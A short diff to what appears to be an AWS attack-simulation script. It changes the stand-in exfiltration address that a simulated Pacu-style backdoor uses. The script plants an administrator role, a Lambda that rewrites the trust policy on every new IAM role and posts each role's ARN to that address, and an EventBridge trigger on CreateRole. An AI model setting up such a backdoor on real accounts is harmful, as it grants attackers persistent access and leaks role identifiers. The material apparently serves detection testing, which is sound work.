@@ -5,7 +5,7 @@ the IAM user `build-bot` (leaked, used from 198.51.100.23), the attacker
 - creates an administrator role for the backdoor (AdministratorAccess attached);
 - creates a Lambda function with a random name whose few lines, on each new role, call
   `iam:UpdateAssumeRolePolicy` to let the attacker's account assume it, and post the role's
-  ARN to a raw IP address (a documentation address, 203.0.113.66; nothing listens);
+  ARN to a raw IP address (a documentation address, 203.0.113.201; nothing listens);
 - creates an EventBridge rule on CloudTrail's `CreateRole` (`aws.iam`), targets the function
   and lets `events.amazonaws.com` invoke it.
 Runs on top of `estate` or standalone (seeds a ten-function estate): the estate's functions
@@ -34,7 +34,7 @@ USER = "build-bot"
 ATTACKER_IP = "198.51.100.23"
 ATTACKER_AGENT = "Boto3/1.34.2 Python/3.11.4 Linux/6.2.0 Botocore/1.34.2 Pacu/1.5.1"
 ATTACKER_ACCOUNT = "444455556666"
-EXFIL = "http://203.0.113.66/pacu/roles"
+EXFIL = "http://203.0.113.201/pacu/roles"
 RULE = "pacu-new-role-backdoor"
 CREATE_ROLE_PATTERN = {
     "source": ["aws.iam"],
